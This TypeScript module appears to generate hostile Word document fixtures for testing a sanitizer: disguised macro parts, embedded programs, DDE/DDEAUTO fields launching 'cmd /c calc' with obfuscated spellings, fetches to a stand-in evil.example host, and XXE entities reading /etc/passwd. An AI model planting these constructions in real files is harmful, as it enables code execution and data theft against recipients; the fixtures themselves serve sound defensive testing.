import type { Random } from './random.ts'
import {
  office,
  override,
  packed,
  paragraph,
  relationship,
  relationships,
  w,
  wordDocument,
  wordParts,
} from './word-document.ts'

type Make = (random: Random) => Buffer

const compound = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1000)])
const field = (inner: string) => `<w:p>${inner}</w:p>`
const run = (inner: string) => `<w:r>${inner}</w:r>`
const character = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`)
const instruction = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`)
const whole = (inner: string) =>
  field(character('begin') + inner + character('separate') + run('<w:t>1</w:t>') + character('end'))

const commands = [
  'DDE',
  'DDEAUTO',
  'INCLUDETEXT',
  'INCLUDEPICTURE',
  'IMPORT',
  'LINK',
  'DATABASE',
  'RD',
  'EMBED',
  'INCLUDE',
]
const cased = (word: string, random: Random) =>
  random.pick([
    word,
    word.toLowerCase(),
    [...word].map((letter, at) => (at % 2 ? letter.toLowerCase() : letter)).join(''),
  ])

/** A part with active content, linked as Word does, under an inconspicuous name. */
function withPart(
  random: Random,
  { type, contentType, content = compound }: { type: string; contentType: string; content?: string | Buffer },
): Buffer {
  const name = `word/${random.pick(['theme', 'media', 'fonts', 'x'])}/${random.pick(['a', 'image9', 'theme2', 'ไฟล์'])}.${random.pick(['bin', 'dat', 'xml', 'png'])}`
  return packed(
    wordParts({
      types: override(name, contentType),
      links: relationship({ type, target: `/${name}` }),
      parts: { [name]: content },
    }),
  )
}

const microsoft = 'http://schemas.microsoft.com/office'

/** Documents that run, fetch or contain something. */
export const activeDocuments: Record<string, Make> = {
  'carries macros under another name': (r) =>
    withPart(r, {
      type: `${microsoft}/2006/relationships/vbaProject`,
      contentType: 'application/vnd.ms-office.vbaProject',
    }),
  'carries macros without saying so': (r) =>
    withPart(r, {
      type: `${microsoft}/2006/relationships/vbaProject`,
      contentType: 'application/xml',
      content: '<a/>',
    }),
  'carries an object': (r) =>
    withPart(r, {
      type: 'oleObject',
      contentType: 'application/vnd.openxmlformats-officedocument.oleObject',
    }),
  'carries a control': (r) =>
    withPart(r, { type: 'control', contentType: 'application/vnd.ms-office.activeX+xml', content: '<a/>' }),
  'carries a control in binary': (r) =>
    withPart(r, {
      type: `${microsoft}/2006/relationships/activeXControlBinary`,
      contentType: 'application/vnd.ms-office.activeX',
    }),
  'carries another format': (r) =>
    withPart(r, {
      type: 'aFChunk',
      contentType: r.pick(['text/html', 'application/rtf', 'message/rfc822', 'application/xhtml+xml']),
      content: '<html/>',
    }),
  'carries a document in a document': (r) =>
    withPart(r, {
      type: 'aFChunk',
      contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
      content: wordDocument(),
    }),
  'carries an add-in': (r) =>
    withPart(r, {
      type: `${microsoft}/2011/relationships/webextension`,
      contentType: 'application/vnd.ms-office.webextension+xml',
      content: '<a/>',
    }),
  'changes the ribbon': (r) =>
    withPart(r, {
      type: `${microsoft}/${r.pick(['2006', '2007'])}/relationships/ui/extensibility`,
      contentType: 'application/xml',
      content: '<customUI/>',
    }),
  'changes the keys': (r) =>
    withPart(r, {
      type: `${microsoft}/2006/relationships/keyMapCustomizations`,
      contentType: 'application/vnd.ms-word.keyMapCustomizations+xml',
      content: '<a/>',
    }),
  'carries a program': (r) =>
    packed({
      ...wordParts(),
      [`word/embeddings/a.${r.pick(['exe', 'js', 'hta', 'lnk', 'dll', 'ps1'])}`]: Buffer.from('MZ'),
    }),
  'is a document with macros': (r) => {
    const deps = wordParts()
    const hidden = r.pick([
      'ms-word.document.macroEnabled.main+xml',
      'ms-word.document.macro&#69;nabled.main+xml',
      'MS-WORD.DOCUMENT.MACROENABLED.MAIN+XML',
    ])
    return packed({
      ...deps,
      '[Content_Types].xml': String(deps['[Content_Types].xml']).replace(
        'openxmlformats-officedocument.wordprocessingml.document.main+xml',
        hidden,
      ),
    })
  },
  'is a template': () => {
    const deps = wordParts()
    return packed({
      ...deps,
      '[Content_Types].xml': String(deps['[Content_Types].xml']).replace(
        'document.main+xml',
        'template.main+xml',
      ),
    })
  },
  'says the type of its document twice': (r) => {
    const deps = wordParts({
      types: override(
        r.pick(['word/document.xml', 'WORD/Document.xml']),
        'application/vnd.ms-word.document.macroEnabled.main+xml',
      ),
    })
    return packed(deps)
  },
  'has two documents': () => {
    const deps = wordParts()
    return packed({
      ...deps,
      '_rels/.rels': String(deps['_rels/.rels']).replace(
        '</Rel',
        `${relationship({ type: 'officeDocument', target: 'word/header1.xml' })}</Rel`,
      ),
    })
  },
  'has types that are not UTF-8': () => {
    const deps = wordParts()
    return packed({
      ...deps,
      '[Content_Types].xml': Buffer.from(
        `\uFEFF${String(deps['[Content_Types].xml']).replace('UTF-8', 'UTF-16')}`,
        'utf16le',
      ),
    })
  },
  'has an unknown element among its types': (r) =>
    wordDocument({
      types: r.pick([
        '<Any/>',
        '<x:Default xmlns:x="urn:x"/>',
        '<Default Extension="a" ContentType="b" Other="c"/>',
        'text',
      ]),
    }),
  'has a field that runs': (r) =>
    wordDocument({ body: whole(instruction(` ${cased(r.pick(commands), r)} cmd "/c calc"`)) }),
  'has a field in pieces': (r) => {
    const name = r.pick(commands)
    const at = 1 + r.int(name.length - 1)
    return wordDocument({
      body: whole(
        instruction(` ${name.slice(0, at)}`) + run('<w:t/>') + instruction(`${name.slice(at)} x "y"`),
      ),
    })
  },
  'has a field put together by a field': (r) =>
    wordDocument({
      body: whole(
        whole(
          instruction(` QUOTE ${[...r.pick(commands)].map((letter) => letter.charCodeAt(0)).join(' ')} `),
        ).slice(5, -6) + instruction(' c:\\a "b"'),
      ),
    }),
  'has a field in one element': (r) =>
    wordDocument({
      body: field(`<w:fldSimple w:instr=" ${cased(r.pick(commands), r)} &quot;http://evil.example&quot;"/>`),
    }),
  'has a field with a letter by reference': (r) =>
    wordDocument({ body: whole(instruction(` &#${r.pick(['68', 'x44'])};DEAUTO c:\\x`)) }),
  'has a field in a header': (r) =>
    packed(
      wordParts({
        parts: {
          'word/header1.xml': `<w:hdr xmlns:w="${w}">${whole(instruction(r.pick(commands)))}</w:hdr>`,
        },
      }),
    ),
  'has a field under another prefix': (r) =>
    packed(
      wordParts({
        parts: {
          'word/header1.xml': `<q:hdr xmlns:q="${w}"><q:fldSimple q:instr="${r.pick(commands)} a"/></q:hdr>`,
        },
      }),
    ),
  'has instructions outside of a field': (r) => wordDocument({ body: field(instruction(r.pick(commands))) }),
  'has a drawing with an address': (r) =>
    wordDocument({
      body: `<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:${r.pick(['imagedata', 'fill', 'stroke'])} src="${r.pick(['http://evil.example/a.png', '\\\\evil\\a', 'file://evil/a'])}"/></v:shape></w:pict></w:r></w:p>`,
    }),
  'has an object in a drawing': () =>
    wordDocument({
      body: '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Package"/></w:object></w:r></w:p>',
    }),
  'plays from the web': () =>
    wordDocument({
      body: '<w:p><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=http://evil.example&gt;"/></w:p>',
    }),
  'merges from a source': () =>
    packed(
      wordParts({
        parts: {
          'word/settings.xml': `<w:settings xmlns:w="${w}"><w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge></w:settings>`,
        },
      }),
    ),
  'has an SVG that runs': (r) =>
    packed(
      wordParts({
        types: '<Default Extension="svg" ContentType="image/svg+xml"/>',
        parts: {
          'word/media/a.svg': `<svg xmlns="http://www.w3.org/2000/svg">${r.pick(['<script>x</script>', '<image href="http://evil.example/a"/>', '<g onload="x"/>', '<use xlink:href="http://evil.example" xmlns:xlink="http://www.w3.org/1999/xlink"/>', '<foreignObject/>'])}</svg>`,
        },
      }),
    ),
  'embeds a sheet that fetches': (r) => {
    const sheet = packed({
      '[Content_Types].xml': `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`,
      '_rels/.rels': relationships(relationship({ type: 'officeDocument', target: 'xl/workbook.xml' })),
      'xl/workbook.xml': '<a/>',
      'xl/_rels/workbook.xml.rels': relationships(
        relationship({
          type: r.pick(['externalLinkPath', 'vbaProject', 'connections']),
          target: 'http://evil.example/a.xlsx',
          mode: 'External',
        }),
      ),
    })
    return packed(
      wordParts({
        types:
          '<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>',
        links: relationship({ type: 'package', target: 'embeddings/a.xlsx' }),
        parts: { 'word/embeddings/a.xlsx': sheet },
      }),
    )
  },
  'embeds a sheet that nothing names': () =>
    packed(
      wordParts({
        types:
          '<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>',
        parts: { 'word/embeddings/a.xlsx': wordDocument() },
      }),
    ),
  'has a document that is no XML': (r) =>
    packed(
      wordParts({
        parts: {
          'word/document.xml': r.pick([
            '',
            '<a>',
            'x',
            '<a></b>',
            '<a b="1" b="2"/>',
            `<w:document xmlns:w="${w}">&nbsp;</w:document>`,
          ]),
        },
      }),
    ),
  'declares entities in its content': (r) =>
    packed(
      wordParts({
        parts: {
          'word/document.xml': `<!DOCTYPE a ${r.pick(['SYSTEM "http://evil.example/a.dtd"', '[<!ENTITY x SYSTEM "file:///etc/passwd">]', '[<!ENTITY % p SYSTEM "http://evil.example"> %p;]', '[<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]'])}><w:document xmlns:w="${w}"><w:body>${paragraph('x')}</w:body></w:document>`,
        },
      }),
    ),
  'has a part that nothing knows': (r) =>
    packed({ ...wordParts(), [r.pick(['word/a.foo', 'evil', 'word/x.html', 'a.chm'])]: 'x' }),
  'has a part of an unknown type': () =>
    packed(
      wordParts({ types: override('word/a.xml', 'application/x-unknown'), parts: { 'word/a.xml': '<a/>' } }),
    ),
  'names a relationship that is none of Word': (r) =>
    wordDocument({
      links: relationship({
        type: `${office}/${r.pick(['slide', 'xmlMaps', 'queryTable', 'externalLinkPath', 'transform'])}`,
        target: 'a.xml',
      }),
    }),
}
